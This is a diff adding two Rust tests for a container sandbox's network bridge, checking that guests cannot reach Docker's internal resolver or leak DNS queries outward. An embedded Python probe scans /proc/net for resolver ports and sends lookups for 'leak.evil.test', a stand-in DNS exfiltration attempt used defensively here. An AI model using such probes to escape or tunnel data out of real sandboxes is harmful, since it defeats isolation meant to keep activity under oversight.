@@ -212,6 +212,74 @@ mod bridge {
         assert!(packets.len() < 200, "{}", packets.len());
     }
 
+    /// Asks Docker's resolver on the port that it really has, and on 53.
+    const ASK_ENGINE: &str = r#"
+import socket, struct
+question = struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"\x04SIGN\x04evil\x04test\0\0\1\0\1"
+def ports(table):
+    lines = [line.split() for line in open("/proc/net/" + table)]
+    return [int(line[1].split(":")[1], 16) for line in lines if line[1].startswith("0B00007F:")]
+for port in ports("udp"):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.settimeout(2)
+        try:
+            s.sendto(question, ("127.0.0.11", port))
+            print("udp answered", s.recv(999)[3] & 15)
+        except OSError as error:
+            print("udp", error.__class__.__name__)
+for port in ports("tcp"):
+    with socket.socket() as s:
+        s.settimeout(2)
+        try:
+            s.connect(("127.0.0.11", port))
+            s.sendall(struct.pack("!H", len(question)) + question)
+            print("tcp answered", s.recv(999)[5] & 15)
+        except OSError as error:
+            print("tcp", error.__class__.__name__)
+"#;
+
+    #[test]
+    fn t200_the_engines_resolver_is_the_workers_alone_on_its_real_port_too() {
+        let Some(bridge) = Bridge::new() else { return };
+        let ask = |sign: &str| format!("python3 - <<'END'\n{}\nEND", ASK_ENGINE.replace("SIGN", sign));
+        let control = bridge.plainly(&ask("ctrl"));
+        assert!(control.contains("udp answered 0") && control.contains("tcp answered 0"), "{control}");
+        assert!(bridge.world.asked().contains(&"ctrl.evil.test".to_owned()));
+        let guest = bridge.boot(&BoxOptions::new());
+        for user in [AGENT, "65534", ROOT] {
+            let said = guest.exec(user, &ask("leak")).both();
+            assert!(
+                said.contains("udp ") && said.contains("tcp ") && !said.contains("answered"),
+                "{user}: {said}"
+            );
+        }
+        let said = guest.as_session(&ask("leak")).both();
+        assert!(said.contains("udp ") && !said.contains("answered"), "{said}");
+        assert!(!bridge.world.saw("leak"), "{:?}", bridge.world.asked());
+        assert!(guest.client(AGENT, &["dns", "127.0.0.11", "ok.test"]).out.contains(&host("ok")));
+    }
+
+    #[test]
+    fn t202_the_engines_own_forwarding_goes_out_and_does_not_come_back() {
+        let Some(bridge) = Bridge::new() else { return };
+        let guest = bridge.boot(&BoxOptions::new().allow("ok.test:80;*.wild.test:80"));
+        let before = bridge.world.asked().len();
+        for number in 0..20 {
+            let said = guest.client(AGENT, &["dns", "127.0.0.53", &format!("n{number}.wild.test")]);
+            assert_eq!(said.out.trim(), format!("NOERROR {}", host("ok")));
+        }
+        let asked = bridge.world.asked().split_off(before);
+        for number in 0..20 {
+            let count = asked.iter().filter(|name| **name == format!("n{number}.wild.test")).count();
+            assert!((1..=4).contains(&count), "n{number}: {count}");
+        }
+        // Others that forward, as any uid but the engine's, meet us.
+        for user in [AGENT, "65534"] {
+            assert_eq!(guest.client(user, &["dns", "9.9.9.53", "leak.evil.test"]).out, "NXDOMAIN\n");
+        }
+        assert!(!bridge.world.saw("leak"));
+    }
+
     #[test]
     fn f11_a_restart_with_dockers_resolver_finds_it_again() {
         let Some(bridge) = Bridge::new() else { return };
